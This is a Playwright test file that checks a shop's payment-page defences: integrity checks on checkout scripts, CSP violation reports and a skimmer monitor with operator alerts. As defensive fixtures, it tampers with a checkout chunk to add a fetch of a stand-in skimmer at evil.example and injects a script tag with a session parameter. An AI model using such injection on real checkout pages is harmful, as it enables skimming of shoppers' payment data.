import type { Page } from '@playwright/test';
import { expectNoSeriousA11yViolations } from './support/axe.ts';
import { query } from './support/database.ts';
import { expect, test } from './support/fixtures.ts';
import { createOperator } from './support/operator.ts';
import { SHOTS, screenshot } from './support/shots.ts';

/**
 * Issue 31 item 2 (PCI DSS 6.4.3 and 11.6.1, decision 056). The payment page's scripts carry the
 * build's integrity, and Chromium refuses a chunk altered on the way (the import map's integrity
 * covers the chunks loaded after the page). A script the CSP blocks is reported by Chromium itself
 * (report-uri: the journeys' shop is on http, where browsers ignore Reporting-Endpoints) and shown on
 * the console's CSP reports. The monitor's "Check now" finds the built shop as built; an
 * alert it keeps is on the console's home until an operator acknowledges it. Screenshots at 1280 and
 * 390 px.
 */

const WIDE = { width: 1280, height: 900 };
const PHONE = { width: 390, height: 844 };
const SKIMMER = 'https://evil.example/skim.js';

async function shots(page: Page, name: string) {
  for (const [label, size] of [
    ['1280', WIDE],
    ['390', PHONE],
  ] as const) {
    await page.setViewportSize(size);
    await expect(page.getByRole('button', { name: 'Menu' })).toHaveCount(size === PHONE ? 1 : 0);
    await screenshot(page, `${SHOTS}/payment-page-${name}-${label}.png`, { fullPage: true });
  }
  await page.setViewportSize(WIDE);
}

/** What the monitor records when it finds a skimmer on /checkout (payment-page.routes.test.ts). */
async function alertAsTheMonitorKeepsIt(): Promise<void> {
  const at = new Date().toISOString();
  const run = `ppr_e2e_${Date.now().toString(36)}`;
  await query(
    `INSERT INTO payment_page_runs (id, url, started_by, started_at, finished_at, status,
       scripts_checked, findings, error) VALUES (?, ?, 'schedule', ?, ?, 'done', 39, 1, NULL)`,
    [run, 'http://shop.test/checkout', at, at],
  );
  await query(
    `INSERT INTO payment_page_findings (id, run_id, kind, subject, expected, actual, detail, status,
       created_at, last_seen_at, closed_at, closed_by)
     VALUES (?, ?, 'script_not_in_inventory', ?, NULL, ?, ?, 'open', ?, ?, NULL, NULL)`,
    [
      `ppf_e2e_${Date.now().toString(36)}`,
      run,
      SKIMMER,
      SKIMMER,
      'A script from https://evil.example, which the inventory does not list, is on the page.',
      at,
      at,
    ],
  );
}

test('Chromium refuses a payment-page chunk altered on the way @mobile', async ({ page }) => {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/integrity/i.test(message.text())) refusals.push(message.text());
  });
  // Whoever sits between the shop and the shopper (a CDN, a proxy) adds a line to the checkout
  // page's chunk, which the app imports after the page has loaded.
  await page.route('**/static/checkout-page-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\n;fetch('${SKIMMER}');` });
  });
  await page.goto('/checkout');
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(refusals.join('\n')).toMatch(/checkout-page-.*\.js/);
});

test('an operator sees the payment page’s alerts and the CSP reports Chromium sent', async ({
  page,
}) => {
  await page.setViewportSize(WIDE);
  const operator = await createOperator(page);

  // A script the CSP does not allow, added to the checkout page (as an extension or an injected tag
  // would): Chromium blocks it and reports it to the shop.
  await page.goto('/checkout');
  await page.evaluate((src) => {
    const script = document.createElement('script');
    script.src = src;
    document.head.append(script);
  }, `${SKIMMER}?session=abc`);

  await page.goto('/admin');
  await page.getByRole('navigation').getByRole('link', { name: 'CSP reports' }).click();
  await expect(page.getByRole('heading', { name: 'CSP reports', level: 1 })).toBeVisible();
  const reports = page.getByRole('table', { name: 'CSP reports, last seen first' });
  const reported = reports.getByRole('row').filter({ hasText: SKIMMER });
  await expect(async () => {
    await page.reload();
    await expect(reported).toHaveCount(1, { timeout: 1000 });
  }).toPass({ timeout: 20_000 });
  await expect(reported).toContainText('script-src-elem');
  await expect(reported).toContainText('/checkout');
  // Kept without the query the page's URL or the script's had.
  await expect(reported).not.toContainText('session=abc');
  await expectNoSeriousA11yViolations(page);
  await shots(page, 'csp-reports');

  // The monitor on the shop as built: nothing changed.
  await page.getByRole('navigation').getByRole('link', { name: 'Payment page' }).click();
  await expect(page.getByRole('heading', { name: 'Payment page', level: 1 })).toBeVisible();
  await page.getByRole('button', { name: 'Check now' }).click();
  await expect(
    page.getByText(/^Checked \d+ scripts and the headers: the page is as built\.$/).first(),
  ).toBeVisible();
  const checks = page.getByRole('table', { name: 'Checks of the payment page, newest first' });
  await expect(checks.getByRole('row').filter({ hasText: operator.email })).toContainText('Done');

  // A skimmer the monitor found: on the home page until acknowledged.
  await alertAsTheMonitorKeepsIt();
  await page.getByRole('navigation').getByRole('link', { name: 'Home' }).click();
  const queue = page.getByRole('listitem').filter({ hasText: /1 change on the payment page/ });
  await expect(queue).toContainText(SKIMMER);
  await expectNoSeriousA11yViolations(page);
  await shots(page, 'home-alert');

  await queue.getByRole('link', { name: /1 change on the payment page/ }).click();
  await expect(page).toHaveURL(/\/admin\/payment-page$/);
  const changes = page.getByRole('table', { name: 'What the checks found, last seen first' });
  const alert = changes.getByRole('row').filter({ hasText: SKIMMER });
  await expect(alert).toContainText('Script not in the inventory');
  await expect(alert).toContainText('Open');
  await expectNoSeriousA11yViolations(page);
  await shots(page, 'alert');
  await alert.getByRole('button', { name: 'Acknowledge' }).click();
  await expect(alert).toContainText('Acknowledged');
  await expect(alert).toContainText(`by ${operator.email}`);

  await page.getByRole('navigation').getByRole('link', { name: 'Home' }).click();
  await expect(page.getByRole('heading', { name: 'Needs attention' })).toBeVisible();
  await expect(page.getByText(/change on the payment page/)).toHaveCount(0);
});
